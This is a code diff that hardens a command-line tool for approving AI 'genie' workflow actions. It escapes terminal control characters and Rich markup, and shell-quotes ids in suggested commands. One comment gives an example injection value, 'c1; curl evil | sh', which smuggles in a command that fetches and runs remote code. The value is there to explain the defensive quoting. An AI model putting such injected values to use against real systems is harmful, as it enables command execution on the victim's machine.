@@ -5,6 +5,7 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import json
+import re
 import shlex
 from collections.abc import Awaitable, Callable
 from datetime import UTC, datetime
@@ -15,6 +16,7 @@ from rich.console import Console
 from rich.markup import escape
 from rich.panel import Panel
 from rich.table import Table
+from rich.text import Text
 
 from geniectl._api import GenieConversations, PendingItem
 from workflows import TERMINAL_TURN_STATUSES, PendingApproval, PendingConnection, TurnResult
@@ -41,10 +43,30 @@ EXIT_CODES: tuple[tuple[int, str], ...] = (
 """What each exit code means; ``--help`` and the README both list these."""
 
 
+# What a terminal would act on instead of showing: C0 controls but tab and newline (ESC
+# starts colour, cursor, clear-screen and OSC title/hyperlink sequences; CR overwrites a
+# line), DEL, C1 controls (U+009B is CSI on some terminals) and the bidi controls that
+# reorder what is shown. Rich passes ESC through untouched.
+_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
+
+
+def plain(value: object) -> str:
+    """``value`` as inert terminal text: each control character is shown as its escape
+    (``\\x1b``, ``\\u202e``) instead of acting. For text printed with ``markup=False``."""
+    return _CONTROLS.sub(lambda m: ascii(m.group())[1:-1], str(value))
+
+
+def safe(value: object) -> str:
+    """``plain`` and escaped for Rich markup: the genie's, the user's, an approver's or
+    the server's text inside our markup shows as typed, so ``[link=…]`` makes no
+    hyperlink and ``[/]`` no MarkupError."""
+    return escape(plain(value))
+
+
 def fail(message: str, code: int = EXIT_ERROR) -> NoReturn:
     # The message quotes ids, texts and server errors, any of which may hold "[...]",
     # which Rich would otherwise take for markup and swallow.
-    err.print(f"[bold red]error:[/] {escape(message)}", highlight=False)
+    err.print(f"[bold red]error:[/] {safe(message)}", highlight=False)
     raise typer.Exit(code)
 
 
@@ -63,43 +85,45 @@ def when(t: datetime | None) -> str:
     return t.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%SZ") if t else "-"
 
 
+# Ids come from the API (call and attempt ids) as much as from the operator: each is
+# quoted, so an id like "c1; curl evil | sh" pastes as one argument, not as a command.
 def approval_commands(wid: str, p: PendingApproval, prefix: str = "geniectl") -> list[str]:
-    w = shlex.quote(wid)
+    w, ref = shlex.quote(wid), shlex.quote(p.call_id)
     return [
-        f"{prefix} approve {w} {p.call_id}",
-        f"{prefix} reject {w} {p.call_id} --reason 'why not'",
+        f"{prefix} approve {w} {ref}",
+        f"{prefix} reject {w} {ref} --reason 'why not'",
     ]
 
 
 def connection_commands(wid: str, c: PendingConnection, prefix: str = "geniectl") -> list[str]:
-    w = shlex.quote(wid)
+    w, ref = shlex.quote(wid), shlex.quote(c.attempt_id)
     return [
-        f"{prefix} connect-done {w} {c.attempt_id}",
-        f"{prefix} connect-reject {w} {c.attempt_id}",
-        f"{prefix} auth-link {w} {c.attempt_id}",
+        f"{prefix} connect-done {w} {ref}",
+        f"{prefix} connect-reject {w} {ref}",
+        f"{prefix} auth-link {w} {ref}",
     ]
 
 
 def commands(lines: list[str]) -> None:
     """Print shell commands unwrapped and unstyled, so they paste as they are."""
     for line in lines:
-        out.print(f"  $ {line}", soft_wrap=True, highlight=False, markup=False)
+        out.print(f"  $ {plain(line)}", soft_wrap=True, highlight=False, markup=False)
 
 
 def pause_panel(wid: str, res: TurnResult, prefix: str = "geniectl") -> None:
     for p in res.pending.approvals:
         params = json.dumps(p.skill_parameters, ensure_ascii=False, indent=2)
         body = (
-            f"skill [bold]{p.skill_name}[/] wants to run with:\n{params}\n\n"
-            f"call id  [cyan]{p.call_id}[/]\ndeadline {when(p.deadline)}"
+            f"skill [bold]{safe(p.skill_name)}[/] wants to run with:\n{safe(params)}\n\n"
+            f"call id  [cyan]{safe(p.call_id)}[/]\ndeadline {when(p.deadline)}"
         )
         out.print(Panel(body, title="awaiting approval", border_style="yellow"), highlight=False)
         commands(approval_commands(wid, p, prefix))
     for c in res.pending.connections:
         body = (
-            f"connector [bold]{c.connector_name}[/] needs the user to sign in "
-            f"(link expires {when(c.auth_expires_at)}):\n{c.auth_url}\n\n"
-            f"attempt id [cyan]{c.attempt_id}[/]\ndeadline   {when(c.deadline)}"
+            f"connector [bold]{safe(c.connector_name)}[/] needs the user to sign in "
+            f"(link expires {when(c.auth_expires_at)}):\n{safe(c.auth_url)}\n\n"
+            f"attempt id [cyan]{safe(c.attempt_id)}[/]\ndeadline   {when(c.deadline)}"
         )
         out.print(Panel(body, title="awaiting connection", border_style="yellow"), highlight=False)
         commands(connection_commands(wid, c, prefix))
@@ -107,17 +131,19 @@ def pause_panel(wid: str, res: TurnResult, prefix: str = "geniectl") -> None:
 
 def print_result(res: TurnResult) -> None:
     if res.status == "completed":
-        out.print(Panel(res.reply or "(no reply)", title=f"turn {res.turn}: reply"))
+        reply = Text(plain(res.reply)) if res.reply is not None else Text("(no reply)")
+        out.print(Panel(reply, title=f"turn {res.turn}: reply"))
     elif res.error is not None:
         code = f" {res.error.error_code}" if res.error.error_code else ""
-        text = escape(f"{res.error.type}{code}: {res.error.message}")
+        text = safe(f"{res.error.type}{code}: {res.error.message}")
         out.print(f"[red]turn {res.turn} {res.status}:[/] {text}", soft_wrap=True)
     else:
         out.print(f"turn {res.turn}: {res.status}")
 
 
-def _pending_rows(items: list[PendingItem]) -> list[tuple[str, str, str, str, str, str, str]]:
-    """(workflow id, genie, user, waits for, id, age, deadline), one per pending decision."""
+def _pending_rows(items: list[PendingItem]) -> list[tuple[str, ...]]:
+    """(workflow id, genie, user, waits for, id, age, deadline), one per pending decision,
+    each as inert text (``plain``), not yet escaped for markup."""
     rows = [
         (
             i.workflow_id,
@@ -144,7 +170,7 @@ def _pending_rows(items: list[PendingItem]) -> list[tuple[str, str, str, str, st
         for i in items
         for c in i.connections
     ]
-    return rows
+    return [tuple(map(plain, row)) for row in rows]
 
 
 def print_pending(items: list[PendingItem], console: Console | None = None) -> None:
@@ -169,7 +195,7 @@ def print_pending(items: list[PendingItem], console: Console | None = None) -> N
         for head in heads:
             table.add_column(head, no_wrap=True)
         for row in rows:
-            table.add_row(*row)
+            table.add_row(*map(Text, row))  # Text: cells are never markup
         con.print(table, highlight=False)
         return
     con.print("[bold]waiting for a human[/]")
@@ -267,7 +293,7 @@ class LiveMessages:
         if self._quiet:
             print(json.dumps({"turn": self._turn, "message": text}, ensure_ascii=False), flush=True)
         else:
-            out.print(f"[dim]genie:[/] {escape(text)}", highlight=False)
+            out.print(f"[dim]genie:[/] {safe(text)}", highlight=False)
 
 
 # ---------------------------------------------------------------------- commands
